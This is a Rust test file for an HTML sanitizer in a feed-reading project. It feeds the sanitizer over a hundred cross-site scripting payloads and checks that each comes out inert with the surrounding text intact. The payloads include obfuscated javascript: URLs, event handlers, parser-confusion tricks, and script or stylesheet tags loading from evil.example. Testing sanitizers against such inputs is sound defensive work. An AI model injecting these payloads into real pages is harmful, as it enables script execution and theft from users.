//! Sources that try to run a script, load something, or break out.

use proptest::prelude::*;

use crate::show::{assert_sane, sanitize, text_of, written};

/// What must never come out, whatever is done to it.
#[track_caller]
fn assert_harmless(source: &str) {
    let tree = sanitize(source);
    assert_sane(&tree);
}

/// Each is inert, and no text before or after it is lost.
const ATTACKS: &[&str] = &[
    // javascript: in disguise
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01\x1fjavascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java\r\nscript:alert(1)'>x</a>",
    "<a href='javascript\t:alert(1)'>x</a>",
    "<a href='java&Tab;script&colon;alert(1)'>x</a>",
    "<a href='java&NewLine;script:alert&lpar;1&rpar;'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href='&#0000106avascript:alert(1)'>x</a>",
    "<a href='&#x09;javascript:alert(1)'>x</a>",
    "<a href='\u{a0}javascript:alert(1)'>x</a>",
    "<a href='java\0script:alert(1)'>x</a>",
    "<a href='javascript&#58alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='filesystem:https://news.example/x'>x</a>",
    "<a href='//news.example@javascript:alert(1)'>x</a>",
    "<a href=\"javascript:'//https://news.example'\">x</a>",
    "<a href=/ok href=javascript:alert(1)>x</a>",
    "<a href=javascript:alert(1) href=/ok>x</a>",
    "<a/href=javascript:alert(1)>x</a>",
    "<a\x0chref=javascript:alert(1)>x</a>",
    "<a xlink:href=javascript:alert(1)>x</a>",
    "<a ping=https://spy.example href=/ok target=_top rel=opener download>x</a>",
    "<img src=javascript:alert(1) alt=y>x",
    "<img src='jav&#x0A;ascript:alert(1)' alt=y>x",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>' alt=y>x",
    // handlers and other attributes
    "<img src=/a onerror=alert(1)>x",
    "<img src=/a onerror\n=\nalert(1)>x",
    "<img src=/a\x0conload=alert(1)>x",
    "<img/src=/a/onerror=alert(1)>x",
    "<img src='/a'onerror='alert(1)'>x",
    "<img src=\"/a\" \"onerror=alert(1)\">x",
    "<img src=`/a` onerror=`alert(1)`>x",
    "<img src=/a srcset='javascript:alert(1) 2x' sizes=1 usemap=#m loading=eager fetchpriority=high>x",
    "<p style='background:url(javascript:alert(1))' class=host id=host slot=s part=p is=x-y>x</p>",
    "<p onclick=alert(1) ONMOUSEOVER=alert(1) on\0click=alert(1)>x</p>",
    "<p title='\"><img src=/a onerror=alert(1)>'>x</p>",
    "<p lang='\"onclick=alert(1) '>x</p>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<q cite=javascript:alert(1)>x</q>",
    "<time datetime='<script>'>x</time>",
    "<div contenteditable autofocus onfocus=alert(1) tabindex=1 popover>x</div>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    // elements that run or load
    "<script>alert(1)</script>x",
    "<SCRIPT SRC=//evil.example/a.js></SCRIPT>x",
    "<script/src=data:,alert(1)></script>x",
    "<script\0>alert(1)</script\0>x",
    "<scr<script>ipt>alert(1)</script>x",
    "<script><!--<script></script>--></script>x",
    "<iframe src=javascript:alert(1)></iframe>x",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>x",
    "<object data=javascript:alert(1)><embed src=javascript:alert(1)></object>x",
    "<embed src=javascript:alert(1)>x",
    "<applet code=a></applet>x",
    "<frameset onload=alert(1)></frameset>x",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>x",
    "<base href=//evil.example/><a href=ok>x</a>",
    "<link rel=stylesheet href=//evil.example/a.css>x",
    "<link rel=import href=//evil.example>x",
    "<style>@import '//evil.example/a.css';</style>x",
    "<style><img src='</style><img src=/a onerror=alert(1)>'>x",
    "<form action=javascript:alert(1)><input type=submit formaction=javascript:alert(1)></form>x",
    "<button formaction=javascript:alert(1)>y</button>x",
    "<form id=a><input name=attributes><input name=parentNode></form>x",
    "<isindex action=javascript:alert(1) prompt=y>x",
    "<video src=/a onerror=alert(1)><source onerror=alert(1)></video>x",
    "<audio autoplay src=/a></audio>x",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>x",
    "<html manifest=/a>x",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<portal src=//evil.example></portal>x",
    "<slot name=z onslotchange=alert(1)>x</slot>",
    "<nutgraf-feed src=//evil.example/feed.json></nutgraf-feed>x",
    "<x-y onclick=alert(1)>x</x-y>",
    // other namespaces and other parsers
    "<svg onload=alert(1)></svg>x",
    "<svg onload=alert(1) />x",
    "<svg><script>alert(1)</script></svg>x",
    "<svg><a xlink:href=javascript:alert(1)><text>y</text></a></svg>x",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>x",
    "<svg><use href='data:image/svg+xml,<svg id=a>'/></svg>x",
    "<svg><foreignObject><p onclick=alert(1)>y</p></foreignObject></svg>x",
    "<svg></p><style><a id='</style><img src=/a onerror=alert(1)>'></style></svg>x",
    "<math href=javascript:alert(1)>y</math>x",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'></math>x",
    "<![CDATA[<img src=/a onerror=alert(1)>]]>x",
    "<!--><img src=/a onerror=alert(1)>-->x",
    "<!--- --!><img src=/a onerror=alert(1)>x",
    "<!doctype '><img src=/a onerror=alert(1)>x",
    "<?xml version='1.0'><img src=/a onerror=alert(1)>?>x",
    "</ ><img src=/a onerror=alert(1)>x",
    "<noscript><p title='</noscript><img src=/a onerror=alert(1)>'></noscript>x",
    "<title><img src='</title><img src=/a onerror=alert(1)>'></title>x",
    "<textarea><img src='</textarea><img src=/a onerror=alert(1)>'></textarea>x",
    "<xmp><img src='</xmp><img src=/a onerror=alert(1)>'>x",
    "<template><script>alert(1)</script><template></template></template>x",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=/a onerror=alert(1)>'></select>x",
    "<table><a href=javascript:alert(1)><tr><td>x</table>",
    "<p><table><p><a href=/b><p><a href=javascript:alert(1)>x",
    "<a href='https://news.example/<script>alert(1)</script>'>x</a>",
    "<a href='https://news.example/\"onclick=alert(1)'>x</a>",
    // text that is not markup
    "&lt;script&gt;alert(1)&lt;/script&gt;x",
    "<<script>alert(1)//<</script>x",
    "< script>alert(1)</ script>x",
    "%3Cscript%3Ealert(1)%3C/script%3Ex",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-x",
    "\u{ff1c}script\u{ff1e}alert(1)x",
    "<plaintext><script>alert(1)</script>x",
];

/// Unfinished: they take what follows with them, but nothing of it becomes markup.
const UNFINISHED: &[&str] = &[
    "<img src=/a onerror=alert(1)",
    "<img src=\"/a onerror=alert(1)>",
    "<a href='javascript:alert(1)",
    "<script>alert(1)",
    "<script src=//evil.example/a.js",
    "<style><img src=/a onerror=alert(1)>",
    "<!-- <img src=/a onerror=alert(1)>",
    "<iframe srcdoc='<img src=/a onerror=alert(1)>",
    "<svg><p onclick=alert(1)>",
    "<svg/onload=alert(1)/>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=/a onerror=alert(1)&gt;'></math>x",
    "<svg><![CDATA[</svg>]]>x",
    "</p onclick='alert(1)",
];

#[test]
fn attacks_are_inert() {
    assert!(ATTACKS.len() >= 60);
    for attack in ATTACKS {
        let source = format!("<p>before</p>{attack}");
        assert_harmless(&source);
        let text = text_of(&sanitize(&source));
        assert!(text.starts_with("before"), "{attack:?} lost what stands before: {text:?}");
        assert!(text.contains('x'), "{attack:?} lost its text: {text:?}");
    }
    for attack in UNFINISHED {
        assert_harmless(&format!("<p>before</p>{attack}"));
        assert!(text_of(&sanitize(&format!("<p>before</p>{attack}"))).starts_with("before"));
    }
}

#[test]
fn attacks_stay_inert_wherever_they_stand() {
    for attack in ATTACKS.iter().chain(UNFINISHED) {
        for around in [
            "<table><tr><td>",
            "<table>",
            "<ul>",
            "<ul><li>",
            "<b><i>",
            "<a href=/z>",
            "<pre>",
            "<h1>",
            "<svg>",
            "<math>",
            "<select>",
            "<title>",
            "<noscript>",
            "<style>",
            "<textarea>",
            "<p title='",
            "<!--",
            "<figure>",
            "<template>",
        ] {
            assert_harmless(&format!("{around}{attack}"));
            assert_harmless(&format!("{around}{attack}</style></title></svg></table>{attack}"));
        }
    }
}

#[test]
fn a_tree_of_an_attack_that_is_written_and_read_again_is_still_inert() {
    for attack in ATTACKS.iter().chain(UNFINISHED) {
        let mut source = (*attack).to_owned();
        for _ in 0..4 {
            source = written(&sanitize(&source));
            assert_harmless(&source);
        }
    }
}

#[test]
fn a_resolver_that_lies_does_not_help() {
    for lie in ["javascript:alert(1)", " https://a.example", "JAVASCRIPT:x", "data:,", "", "httpsx://a", "file:///etc"]
    {
        let tree = nutgraf::feed::html::sanitize("<a href=b>x</a><img src=c alt=d>", &|_| Some(lie.to_owned()));
        assert_eq!(written(&tree), "<p>xd</p>", "{lie:?}");
    }
    let tree = nutgraf::feed::html::sanitize("<img src=c alt=d>", &|_| Some("mailto:a@b".to_owned()));
    assert_eq!(written(&tree), "<p>d</p>");
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2_000, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn attacks_spliced_into_each_other_are_inert(
        first in proptest::sample::select(ATTACKS),
        second in proptest::sample::select(ATTACKS),
        cut in any::<proptest::sample::Index>(),
        skip in any::<proptest::sample::Index>(),
    ) {
        let edge = |text: &str, index: proptest::sample::Index| {
            let edges: Vec<usize> = text.char_indices().map(|(at, _)| at).collect();
            edges[index.index(edges.len())]
        };
        let (end, start) = (edge(first, cut), edge(second, skip));
        assert_harmless(&format!("{}{}{}", &first[..end], &second[start..], &first[end..]));
    }
}
